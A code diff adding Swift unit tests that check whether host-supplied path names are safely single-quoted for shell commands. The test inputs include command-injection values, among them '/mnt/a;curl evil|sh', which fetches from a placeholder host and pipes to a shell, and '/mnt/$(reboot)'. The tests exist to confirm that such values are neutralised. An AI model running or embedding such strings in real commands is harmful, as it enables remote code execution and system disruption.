@@ -15,6 +15,23 @@ struct TextTests {
     }
 
     @Test(
+        "a name from the host is one word in a command that people are told, whatever it is, and a plain one looks as it is",
+        arguments: [
+            ("/mnt/a", "/mnt/a"), ("/mnt/A_b-1.c,d:e=@f%+", "/mnt/A_b-1.c,d:e=@f%+"), ("/mnt/a;curl evil|sh", "'/mnt/a;curl evil|sh'"),
+            ("/mnt/a b", "'/mnt/a b'"), ("/mnt/$(reboot)", "'/mnt/$(reboot)'"), ("/mnt/it's", #"'/mnt/it'\''s'"#), ("~", "'~'"),
+            ("a{b,c}", "'a{b,c}'"), ("", "''"),
+        ])
+    func shellWords(_ text: String, _ word: String) throws {
+        #expect(text.quotedForShell == word)
+        if text.hasPrefix("/") { #expect(try Target(validating: text).quotedForShell == word) }
+    }
+
+    @Test("a target in a command drives no terminal")
+    func shellWordOfTarget() throws {
+        #expect(try Target(validating: "/mnt/a\u{202e}b").quotedForShell == #"'/mnt/a\u{202e}b'"#)
+    }
+
+    @Test(
         "bytes that are no UTF-8 are shown one by one, the rest as text",
         arguments: [
             ([0x61, 0xFF, 0x62], "a\\xffb"), ([0xC3, 0xA9], "é"), ([0xC3], "\\xc3"), ([0xED, 0xA0, 0x80], "\\xed\\xa0\\x80"),
